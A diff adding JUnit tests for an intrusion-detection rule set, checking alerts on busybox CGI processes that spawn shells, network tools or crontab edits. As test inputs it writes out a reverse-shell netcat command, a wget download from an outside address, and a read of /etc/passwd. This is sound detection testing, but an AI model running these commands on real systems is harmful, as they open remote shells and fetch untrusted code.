@@ -39,6 +39,39 @@ class DefaultRuleGoldenTest {
                 .isEmpty();
     }
 
+    /**
+     * As recorded on the demo guest: httpd's connection process forks, the child execs the CGI by a relative path
+     * (busybox httpd changes into the CGI's directory first), and the CGI's shell runs an applet as
+     * {@code /proc/self/exe} with the applet's name as argv[0].
+     */
+    private static Event[] busyboxCgiRuns(String... argv) {
+        return new Event[] {fork(1, 109, "httpd", 140), fork(1.05, 140, "httpd", 141),
+                exec(1.1, 141, 140, 0, "httpd", "ping", "ping"), fork(1.2, 141, "ping", 142),
+                exec(1.3, 142, 141, 0, "ping", "/proc/self/exe", argv)};
+    }
+
+    @Test
+    void aBusyboxCgiStartedByARelativePath_spawningAShell_fires_butItsPingDoesNot() {
+        String title = "Web Server or CGI Spawns a Shell or Network Tool";
+        assertThat(fired(busyboxCgiRuns("sh"))).containsExactly(title);
+        assertThat(fired(busyboxCgiRuns("wget", "-O", "/tmp/x", "http://10.0.2.2:8000/x"))).containsExactly(title);
+        assertThat(fired(busyboxCgiRuns("ping", "-c", "1", "-W", "2", "127.0.0.1"))).isEmpty();
+        assertThat(fired(busyboxCgiRuns("wc", "-l"))).isEmpty();
+        AlertEvent alert = run(RULES, busyboxCgiRuns("sh")).get(0);
+        assertThat(alert.explanation()).contains("Image='/bin/sh'").contains("GrandParentImage='httpd'");
+        assertThat(alert.evidence()).containsExactly("e5");
+    }
+
+    @Test
+    void busyboxAppletsRunAsProcSelfExe_fireTheRulesOnTheirAppletNames() {
+        assertThat(fired(exec(1, 50, 1, 0, "sh", "/proc/self/exe", "nc", "-e", "/bin/sh", "10.0.2.2", "4444")))
+                .containsExactly("Netcat Runs a Program for its Connection (nc -e / -c)");
+        assertThat(fired(exec(1, 91, 1, 0, "sh", "/proc/self/exe", "crontab", "-")))
+                .containsExactly("Crontab Installed or Edited with crontab");
+        assertThat(fired(exec(1, 91, 1, 0, "sh", "/proc/self/exe", "crontab", "-l"))).isEmpty();
+        assertThat(fired(exec(1, 92, 1, 0, "sh", "/proc/self/exe", "cat", "/etc/passwd"))).isEmpty();
+    }
+
     @Test
     void webShellAlert_requestsItsFollowUp() {
         AlertEvent alert = run(RULES, cgiRuns("/bin/sh", "sh", "-c", "id")).get(0);
@@ -163,6 +196,8 @@ class DefaultRuleGoldenTest {
         assertThat(fired(file(1, 99, 0, "sh", "open", "/var/log/heartbeat", "O_WRONLY|O_CREAT|O_APPEND"))).isEmpty();
         assertThat(fired(exec(0.5, 33, 1, 0, "init", "/sbin/syslogd", "syslogd"),
                 file(1, 33, 0, "syslogd", "unlink", "/var/log/messages.1", ""))).isEmpty();
+        // started before monitoring: known by its task name only
+        assertThat(fired(file(1, 33, 0, "syslogd", "unlink", "/var/log/messages.1", ""))).isEmpty();
     }
 
     private static Event winSyscall(double t, int pid, String image, String call, String handle, String protect) {
